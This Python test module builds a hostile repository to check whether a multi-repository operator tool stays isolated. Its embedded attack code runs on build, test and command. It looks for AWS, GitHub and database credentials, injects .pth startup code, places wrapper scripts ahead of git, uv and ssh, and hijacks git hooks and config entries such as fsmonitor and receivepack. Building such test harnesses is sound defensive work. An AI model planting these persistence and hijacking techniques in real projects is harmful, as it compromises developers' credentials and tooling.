"""A repository whose code attacks the operator of a campaign: its build backend, its command `context`, its tests."""

from __future__ import annotations

import os
import shutil
import sys
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from zipfile import ZipFile

import psutil

SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "key",
    "AWS_PROFILE": "prod",
    "GITHUB_TOKEN": "token",
    "GH_TOKEN": "token",
    "PULUMI_ACCESS_TOKEN": "token",
    "SSH_AUTH_SOCK": "/run/agent",
    "UV_INDEX_OURS_PASSWORD": "password",
    "HTTPS_PROXY": "http://user:password@127.0.0.1:9",
    "NO_PROXY": "*",
    "DATABASE_URL": "postgres://user:password@db",
}
"""Variables of the operator; the attack reports all of them but NO_PROXY."""

_PROJECT = """\
[project]
name = "{name}"
version = "1"
requires-python = ">=3.11"
dependencies = ["shared==1"]
[project.scripts]
context = "attack:main"
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[tool.uv]
find-links = ["{wheels}"]
no-index = true
compile-bytecode = true
link-mode = "hardlink"
"""

_BACKEND = '''\
"""An editable wheel of the folder, and the attack during the build."""
from pathlib import Path
from zipfile import ZipFile

import attack


def build_editable(folder, *_):
    attack.variables("build")
    about = {about}
    files = {{"{name}.pth": str(Path.cwd()), **about, f"{name}-1.dist-info/RECORD": ""}}
    with ZipFile(Path(folder) / "{name}-1-py3-none-any.whl", "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
    return "{name}-1-py3-none-any.whl"
'''

_ATTACK = '''\
"""Looks for credentials, and changes the environment, the folders of git and the PATH for later processes."""
import os
import subprocess
import sys
import sysconfig
from pathlib import Path

OWN, EVIDENCE, HOME, BIN = "{name}", Path("{evidence}"), Path("{home}"), Path("{bin}")
SECRETS = {secrets}
SPY = """#!/bin/sh
[ -z "$GITHUB_TOKEN" ] || echo "$0 $@" >> "{evidence}/{{name}}"
{{then}}
"""


def variables(place):
    found = sorted(name for name in SECRETS if name in os.environ)
    (EVIDENCE / ("variables of the " + place)).write_text(" ".join(found)) if found else None
    if Path.home() == HOME:
        (EVIDENCE / ("home of the " + place)).touch()


def spy(file, name, then=""):
    """Attacks run at the same time: each of them replaces the whole file."""
    file.parent.mkdir(exist_ok=True)
    whole = file.with_name(f"{{file.name}} of {{os.getpid()}}")
    whole.write_text(SPY.format(name=name, then=then))
    whole.chmod(0o755)
    return whole.replace(file)


def packages():
    import shared

    if getattr(shared, "OWNER", OWN) != OWN:
        (EVIDENCE / "module of a package").touch()
    with Path(shared.__file__).open("a") as module:
        module.write("OWNER = " + repr(OWN) + "\\n")
    seen = 'n.exists() and n.read_text() != "' + OWN + '" and pathlib.Path("{evidence}/start of Python").touch()'
    (Path(sysconfig.get_path("purelib")) / "later.pth").write_text("import pathlib; n = pathlib.Path('name'); " + seen)


def programs():
    for name, path in {programs}.items():
        for folder in (BIN, Path(sys.executable).parent):
            spy(folder / name, "program " + name, "exec " + path + ' "$@"')


def git_folder(folder):
    hook = "/bin/sh " + str(spy(folder / "spy", "setting of git"))
    hooks = ("pre-push", "reference-transaction", "post-index-change", "pre-commit", "post-checkout", "post-commit")
    for name in hooks:
        spy(folder / "hooks" / name, "hook of git")
    keep = str(spy(folder / "keep", "setting of git", "cat"))
    receive = str(spy(folder / "receive", "setting of git", 'exec git-receive-pack "$@"'))
    upload = str(spy(folder / "upload", "setting of git", 'exec git-upload-pack "$@"'))
    with (folder / "config").open("a") as config:
        config.write("[core]\\nfsmonitor = " + hook + "\\nhooksPath = " + str(folder / "hooks") + "\\n")
        config.write("[diff]\\nexternal = " + hook + "\\n[filter \\"spy\\"]\\nclean = " + keep + "\\n")
        config.write("[gpg]\\nprogram = " + keep + "\\n[log]\\nshowSignature = true\\n[commit]\\ngpgSign = false\\n")
        config.write("[uploadpack]\\npackObjectsHook = " + hook + "\\n")
        config.write('[remote "origin"]\\nreceivepack = ' + receive + "\\nuploadpack = " + upload + "\\n")
    (folder / "info").mkdir(exist_ok=True)
    (folder / "info" / "attributes").write_text("* filter=spy diff=spy\\n")


def git():
    shared = Path(".git/objects/info/alternates")
    if shared.exists():
        git_folder(Path(".git"))
        clone = Path(shared.read_text().strip()).parent
        for other in clone.parent.parent.glob("*/.git"):
            git_folder(other)


def background():
    loop = "import time; time.sleep(20)"
    process = subprocess.Popen([sys.executable, "-c", loop], stdin=-3, stdout=-3, stderr=-3)
    (EVIDENCE / "processes" / str(process.pid)).touch()


def main():
    variables("command")
    packages()
    programs()
    git()
    background()
'''

_PYTEST = """\
import attack
from pathlib import Path

attack.main()
Path("build").mkdir(exist_ok=True)
Path("build/inbound.xml").write_text("<testsuite/>")
"""


_SURVEY = """\
import json
import subprocess
import sys
from pathlib import Path


def main():
    attack = "import attack, pathlib; attack.main(); attack.git_folder(pathlib.Path('.git'))"
    for folder in sys.argv[2:]:
        subprocess.run([sys.executable, "-c", attack], cwd=folder, check=True)
    print(json.dumps({"repositories": [{"name": Path(folder).name} for folder in sys.argv[2:]]}))
"""
"""The library's command `context survey`, which runs the attack of each repository in a process."""

_IN_HOME = """\
#!/bin/sh
[ "$HOME" != "{home}" ] || touch "{found}"
exec {python} "$@"
"""


def _about(name: str, more: Mapping[str, str]) -> dict[str, str]:
    """Return the files of a wheel's folder `dist-info`."""
    files = {
        "METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n",
        "WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        **more,
    }
    return {f"{name}-1.dist-info/{path}": text for path, text in files.items()}


@dataclass(frozen=True)
class Attack:
    """An operator in `folder`, and the evidence of attacks on this operator."""

    folder: Path

    @property
    def evidence(self) -> Path:
        """The folder with a file for each attack that reached its aim."""
        return self.folder / "evidence"

    def operator(self) -> dict[str, str]:
        """Make the operator's folders; return the variables of the operator's shell."""
        (self.evidence / "processes").mkdir(parents=True)
        for name in ("bin", "wheels"):
            (self.folder / name).mkdir()
        interpreter, record = self.folder / "interpreter", self.evidence / "program .python-version"
        interpreter.write_text(_IN_HOME.format(home=Path.home(), found=record, python=sys.executable))
        interpreter.chmod(0o755)
        start = self.evidence / "start of a package"
        start = f"import os, pathlib; os.environ.get('HOME') == '{Path.home()}' and pathlib.Path('{start}').touch()"
        with ZipFile(self.folder / "wheels" / "shared-1-py3-none-any.whl", "w") as wheel:
            files = {"shared.py": "", "shared.pth": start, **_about("shared", {"RECORD": ""})}
            for path, text in files.items():
                wheel.writestr(path, text)
        return {**SECRETS, "PATH": f"{self.folder / 'bin'}{os.pathsep}{os.environ['PATH']}"}

    def files(self, name: str) -> dict[str, str]:
        """Return the files of a hostile repository."""
        reported = [variable for variable in SECRETS if variable != "NO_PROXY"]
        facts = {
            "name": name,
            "wheels": self.folder / "wheels",
            "evidence": self.evidence,
            "home": Path.home(),
            "bin": self.folder / "bin",
            "secrets": reported,
            "programs": {program: shutil.which(program) for program in ("git", "uv", "ssh")},
            "about": _about(name, {"entry_points.txt": "[console_scripts]\ncontext = attack:main\n"}),
        }
        texts = {"pyproject.toml": _PROJECT, "backend.py": _BACKEND, "attack.py": _ATTACK}
        own = {"pytest.py": _PYTEST, ".python-version": str(self.folder / "interpreter")}
        return {**own, **{path: text.format(**facts) for path, text in texts.items()}}

    def library(self, folder: Path, _sources: object) -> Path:
        """Build a wheel of the library, whose survey runs the attacks, into a folder."""
        about = _about("bounded_context", {"RECORD": ""})
        about["bounded_context-1.dist-info/METADATA"] += "Requires-Dist: shared\n"
        wheel = folder / "bounded_context-1-py3-none-any.whl"
        with ZipFile(wheel, "w") as archive:
            for path, text in {"bounded_context_cli/command/__init__.py": _SURVEY, **about}.items():
                archive.writestr(path, text)
        return folder

    def successes(self) -> set[str]:
        """Return the attacks that reached their aim, and end the processes that are left."""
        remaining = [process for file in (self.evidence / "processes").iterdir() if (process := _alive(int(file.name)))]
        for process in remaining:
            process.kill()
        names = {path.name for path in self.evidence.iterdir() if path.is_file()}
        return names | ({"process in the background"} if remaining else set())


def _alive(number: int) -> psutil.Process | None:
    """Return a process that runs; a killed process may need a moment to end."""
    for _ in range(20):
        try:
            process = psutil.Process(number)
            if process.status() == psutil.STATUS_ZOMBIE or "import time; time.sleep(20)" not in process.cmdline():
                return None
        except psutil.Error:
            return None
        time.sleep(0.05)
    return process
